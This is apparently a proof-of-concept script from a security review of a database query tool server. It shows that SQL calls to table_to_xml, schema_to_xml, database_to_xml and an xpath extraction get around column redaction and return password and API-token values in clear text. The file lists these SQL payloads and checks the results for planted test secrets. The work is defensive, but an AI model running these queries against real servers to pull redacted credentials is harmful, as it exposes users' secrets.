"""attack3 / F20: redaction does not follow table_to_xml / schema_to_xml / database_to_xml. The
guard allows them with a constant name (NAMES_RELATION/SCHEMA/DATABASE: the relations are
checked), but the lineage that decides redaction (database/rows/lineage.py, redaction.py) sees
a function of constants, not a read of `public.users`: every password and api_token comes
back in clear, in one call, from execute_query (the same column selected directly is
[REDACTED]). Needs a server built with libxml (most packaged builds; PG_TEST_SERVER=pg15 here:
the embedded 18 has none).

Usage (a bed and setup.py first, see README.md):
  PYTHONPATH=tests:security-review uv run python security-review/redact_xml.py"""
import asyncio, json
from mcpclient import connect
from common import as_role, tool

CALLS = [
    ("control", "SELECT password, api_token FROM users ORDER BY id"),
    ("table_to_xml", "SELECT table_to_xml('users', true, false, '')"),
    ("xpath", "SELECT (xpath('//api_token/text()', table_to_xml('public.users', true, false, '')))::text[] AS t"),
    ("schema_to_xml", "SELECT schema_to_xml('public', true, false, '')"),
    ("database_to_xml", "SELECT database_to_xml(true, false, '')"),
]


async def main() -> None:
    async with connect(as_role("reader")) as c:
        for name, sql in CALLS:
            ok, body = await tool(c, "execute_query", sql=sql)
            text = json.dumps(body.get("rows", body.get("error")))
            leaked = [s for s in ("hunter2", "tok-ALICE-123", "s3cr3t!", "tok-BOB-456") if s in text]
            print(f"{name}: ok={ok} secrets in the answer: {leaked}  {text[:160]}")

if __name__ == "__main__":
    asyncio.run(main())
